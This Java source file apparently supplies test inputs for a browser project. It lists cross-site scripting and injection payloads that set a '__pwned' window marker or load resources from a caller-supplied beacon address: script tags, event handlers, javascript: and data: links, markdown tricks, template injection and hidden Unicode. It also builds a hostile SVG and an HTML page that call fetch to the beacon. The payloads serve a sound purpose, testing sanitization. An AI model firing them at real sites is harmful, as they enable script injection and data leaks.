package dev.fairlead.browser;

import java.util.List;
import java.util.stream.Stream;

/** Texts that would run something, or fetch something, wherever a page takes a text for more than a text. */
final class Payloads {
    /** What a script that runs sets in its window. */
    static final String MARK = "__pwned";

    private Payloads() {}

    /** Returns all of them; those that fetch something fetch it from this address. */
    static List<String> all(String beacon) {
        var run = MARK + "=1";
        return Stream.of(
                        "<script>window.%RUN%</script>",
                        "<script src=\"%BEACON%/s.js\"></script>",
                        "<img src=x onerror=\"window.%RUN%\">",
                        "<img src=\"%BEACON%/i.png\">",
                        "<svg onload=\"window.%RUN%\"><animate onbegin=\"window.%RUN%\" attributeName=x dur=1s></svg>",
                        "<svg><script href=\"data:text/javascript,window.%RUN%\"/></svg>",
                        "<iframe srcdoc=\"<script>top.%RUN%</script>\"></iframe>",
                        "<iframe src=\"javascript:top.%RUN%\"></iframe>",
                        "<object data=\"data:text/html,<script>top.%RUN%</script>\"></object>",
                        "<a href=\"javascript:window.%RUN%\">press me</a>",
                        "<form action=\"javascript:window.%RUN%\"><button autofocus>press me</button></form>",
                        "<details open ontoggle=\"window.%RUN%\">x</details>",
                        "<input autofocus onfocus=\"window.%RUN%\">",
                        "<style>@import url(%BEACON%/c.css);</style>",
                        "<link rel=stylesheet href=\"%BEACON%/l.css\"><base href=\"%BEACON%/\">",
                        "<meta http-equiv=refresh content=\"0;url=%BEACON%/m\">",
                        "<math><mtext></p><style><img src=x onerror=window.%RUN%></style></mtext></math>",
                        "\"><img src=x onerror=window.%RUN%>",
                        "'-alert(1)-'</title></textarea><script>window.%RUN%</script>",
                        "{{constructor.constructor('window.%RUN%')()}} ${window.%RUN%} #{window.%RUN%}",
                        "[press me](javascript:window.%RUN%)",
                        "[press me](JaVaScRiPt&colon;window.%RUN%) [and"
                                + " me](data:text/html,<script>window.%RUN%</script>)",
                        "![picture](%BEACON%/md.png) ![x](javascript:window.%RUN%)",
                        "[ref]\n\n[ref]: javascript:window.%RUN% \"title\"",
                        "<javascript:window.%RUN%> <vbscript:msgbox(1)>",
                        "```html\n<img src=x onerror=window.%RUN%>\n```",
                        "| a | b |\n|---|---|\n| <img src=x onerror=window.%RUN%> | [x](javascript:window.%RUN%) |",
                        "javascript:window.%RUN%//",
                        "data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+",
                        "\u202Egnp.exe\u202C \u200B\u2066hidden\u2069 \uFEFF\u0007\u001B[31mred\u001B[0m",
                        "tags \uDB40\uDC01\uDB40\uDC41 and\u00A0spaces\u3164",
                        "__proto__",
                        "%3Cscript%3Ewindow.%RUN%%3C/script%3E &lt;script&gt;window.%RUN%&lt;/script&gt;")
                .map(text -> text.replace("%RUN%", run).replace("%BEACON%", beacon))
                .toList();
    }

    /** Returns a picture that is a document with a script. */
    static String svg(String beacon) {
        return "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.%s=1\"><script>top.%s=1</script><image href=\"%s/svg.png\"/></svg>"
                .formatted(MARK, MARK, beacon);
    }

    /** Returns a whole page with a script. */
    static String html(String beacon) {
        return "<!doctype html><script>top.%s=1;fetch('%s/html')</script><img src=\"%s/html.png\"><h1>hostile page</h1>"
                .formatted(MARK, beacon, beacon);
    }
}
